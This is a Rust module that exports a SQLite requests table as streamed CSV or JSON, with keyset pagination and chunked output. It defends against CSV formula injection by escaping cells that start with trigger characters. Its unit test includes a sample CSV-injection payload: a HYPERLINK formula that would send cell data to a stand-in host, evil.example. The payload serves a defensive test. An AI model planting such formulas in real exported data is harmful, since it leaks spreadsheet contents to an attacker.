//! Exports of the requests table as CSV or JSON, in bounded memory: rows are read a page at a time (keyset
//! pagination on `(started_at, id)`, each page its own short read transaction, so the writer's checkpoints are
//! never held back) and handed on in chunks of about [`CHUNK_BYTES`].

use std::fmt::Write as _;

use rusqlite::Connection;
use rusqlite::types::{Value as SqlValue, ValueRef};

use super::StoreError;
use super::query::RequestFilter;
use super::schema::BOOLEAN_COLUMNS;

/// Rows read per query.
pub const PAGE_ROWS: usize = 1000;
/// Size of the chunks handed to the consumer.
pub const CHUNK_BYTES: usize = 64 * 1024;

#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Format {
    Csv,
    Json,
}

impl Format {
    pub fn parse(text: &str) -> Option<Format> {
        match text {
            "csv" => Some(Format::Csv),
            "json" => Some(Format::Json),
            _ => None,
        }
    }

    pub fn content_type(self) -> &'static str {
        match self {
            Format::Csv => "text/csv; charset=utf-8",
            Format::Json => "application/json",
        }
    }

    pub fn extension(self) -> &'static str {
        match self {
            Format::Csv => "csv",
            Format::Json => "json",
        }
    }
}

/// What an export did.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ExportSummary {
    pub rows: u64,
    pub pages: u64,
    pub chunks: u64,
    /// Largest chunk handed on.
    pub max_chunk: usize,
    /// The consumer stopped the export (client gone).
    pub stopped: bool,
}

/// Streams the requests matching `filter` (session, since, until; oldest first) to `emit`, chunk by chunk.
/// `emit` returns `false` to stop. `page_rows` rows are read per query.
pub fn export_requests(
    conn: &Connection,
    filter: &RequestFilter,
    format: Format,
    page_rows: usize,
    emit: impl FnMut(Vec<u8>) -> bool,
) -> Result<ExportSummary, StoreError> {
    let (sql, fixed) = page_sql(filter);
    let mut stmt = conn.prepare(&sql)?;
    export_with(&mut stmt, fixed, format, page_rows, emit)
}

/// The query of one export page: the filter's parameters, then `(started_at, id)` of the last row seen and the
/// page size.
pub fn page_sql(filter: &RequestFilter) -> (String, Vec<SqlValue>) {
    let mut conditions = Vec::new();
    let mut fixed: Vec<SqlValue> = Vec::new();
    if let Some(session) = filter.session {
        fixed.push(SqlValue::Integer(session));
        conditions.push(format!("session_id = ?{}", fixed.len()));
    }
    if let Some(since) = filter.since {
        fixed.push(SqlValue::Integer(since));
        conditions.push(format!("started_at >= ?{}", fixed.len()));
    }
    if let Some(until) = filter.until {
        fixed.push(SqlValue::Integer(until));
        conditions.push(format!("started_at < ?{}", fixed.len()));
    }
    let n = fixed.len();
    conditions.push(format!("(started_at, id) > (?{}, ?{})", n + 1, n + 2));
    let sql = format!(
        "SELECT * FROM requests WHERE {} ORDER BY started_at, id LIMIT ?{}",
        conditions.join(" AND "),
        n + 3
    );
    (sql, fixed)
}

/// Continues [`export_requests`].
fn export_with(
    stmt: &mut rusqlite::Statement<'_>,
    fixed: Vec<SqlValue>,
    format: Format,
    page_rows: usize,
    mut emit: impl FnMut(Vec<u8>) -> bool,
) -> Result<ExportSummary, StoreError> {
    let mut summary = ExportSummary::default();
    let names: Vec<String> = stmt.column_names().map(str::to_string).collect();
    let started_col = names.iter().position(|c| c == "started_at");
    let id_col = names.iter().position(|c| c == "id");
    let (Some(started_col), Some(id_col)) = (started_col, id_col) else {
        return Err(StoreError::Other(
            "the requests table lacks started_at or id".to_string(),
        ));
    };
    let booleans: Vec<bool> = names
        .iter()
        .map(|n| BOOLEAN_COLUMNS.contains(&n.as_str()))
        .collect();

    let mut chunk: Vec<u8> = Vec::with_capacity(CHUNK_BYTES + 4096);
    let mut hand_on = |chunk: &mut Vec<u8>, summary: &mut ExportSummary, last: bool| -> bool {
        if chunk.len() < CHUNK_BYTES && (!last || chunk.is_empty()) {
            return true;
        }
        summary.chunks += 1;
        summary.max_chunk = summary.max_chunk.max(chunk.len());
        let full = std::mem::replace(chunk, Vec::with_capacity(CHUNK_BYTES + 4096));
        emit(full)
    };
    match format {
        Format::Csv => {
            let header = names.join(",");
            chunk.extend_from_slice(header.as_bytes());
            chunk.extend_from_slice(b"\r\n");
        }
        Format::Json => chunk.extend_from_slice(b"["),
    }

    let mut after = (i64::MIN, i64::MIN);
    let mut line = String::new();
    loop {
        let mut values = fixed.clone();
        values.push(SqlValue::Integer(after.0));
        values.push(SqlValue::Integer(after.1));
        values.push(SqlValue::Integer(page_rows.max(1) as i64));
        let mut rows = stmt.query(rusqlite::params_from_iter(values))?;
        let mut in_page = 0;
        while let Some(row) = rows.next()? {
            in_page += 1;
            after = (row.get(started_col)?, row.get(id_col)?);
            line.clear();
            match format {
                Format::Csv => write_csv_row(&mut line, row, names.len())?,
                Format::Json => {
                    if summary.rows > 0 {
                        line.push(',');
                    }
                    line.push('\n');
                    write_json_row(&mut line, row, &names, &booleans)?;
                }
            }
            summary.rows += 1;
            chunk.extend_from_slice(line.as_bytes());
            if !hand_on(&mut chunk, &mut summary, false) {
                summary.stopped = true;
                return Ok(summary);
            }
        }
        drop(rows);
        summary.pages += 1;
        if in_page < page_rows.max(1) {
            break;
        }
    }
    if format == Format::Json {
        chunk.extend_from_slice(if summary.rows > 0 { b"\n]\n" } else { b"]\n" });
    }
    if !hand_on(&mut chunk, &mut summary, true) {
        summary.stopped = true;
    }
    Ok(summary)
}

fn write_csv_row(
    out: &mut String,
    row: &rusqlite::Row<'_>,
    columns: usize,
) -> rusqlite::Result<()> {
    for i in 0..columns {
        if i > 0 {
            out.push(',');
        }
        match row.get_ref(i)? {
            ValueRef::Null | ValueRef::Blob(_) => {}
            ValueRef::Integer(n) => {
                let _ = write!(out, "{n}");
            }
            ValueRef::Real(f) => {
                let _ = write!(out, "{f}");
            }
            ValueRef::Text(t) => write_csv_text(out, &String::from_utf8_lossy(t)),
        }
    }
    out.push_str("\r\n");
    Ok(())
}

/// Characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// One text cell. Previews and session ids come from clients: a cell that a spreadsheet would run as a formula
/// (`=HYPERLINK(…)`) is neutralised with a leading `'` and quoted, as OWASP recommends; other cells are quoted
/// only when they must be.
pub fn write_csv_text(out: &mut String, text: &str) {
    let formula = text.starts_with(FORMULA_TRIGGERS);
    if formula || text.contains([',', '"', '\n', '\r']) {
        out.push('"');
        if formula {
            out.push('\'');
        }
        out.push_str(&text.replace('"', "\"\""));
        out.push('"');
    } else {
        out.push_str(text);
    }
}

fn write_json_row(
    out: &mut String,
    row: &rusqlite::Row<'_>,
    names: &[String],
    booleans: &[bool],
) -> rusqlite::Result<()> {
    out.push('{');
    for (i, name) in names.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        out.push('"');
        out.push_str(name);
        out.push_str("\":");
        match row.get_ref(i)? {
            ValueRef::Null | ValueRef::Blob(_) => out.push_str("null"),
            ValueRef::Integer(n) if booleans.get(i).copied().unwrap_or(false) => {
                out.push_str(if n != 0 { "true" } else { "false" })
            }
            ValueRef::Integer(n) => {
                let _ = write!(out, "{n}");
            }
            ValueRef::Real(f) if f.is_finite() => {
                let _ = write!(out, "{f}");
            }
            ValueRef::Real(_) => out.push_str("null"),
            ValueRef::Text(t) => {
                let text = String::from_utf8_lossy(t);
                match serde_json::to_string(text.as_ref()) {
                    Ok(quoted) => out.push_str(&quoted),
                    Err(_) => out.push_str("null"),
                }
            }
        }
    }
    out.push('}');
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cell(text: &str) -> String {
        let mut out = String::new();
        write_csv_text(&mut out, text);
        out
    }

    #[test]
    fn formula_cells_are_neutralised() {
        assert_eq!(
            cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""
        );
        for text in ["+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "=1"] {
            let out = cell(text);
            assert!(out.starts_with("\"'"), "{text:?} → {out:?}");
        }
        assert_eq!(cell("plain text"), "plain text");
        assert_eq!(cell("a, b"), "\"a, b\"");
        assert_eq!(cell("x=1"), "x=1");
        assert_eq!(cell(""), "");
    }
}
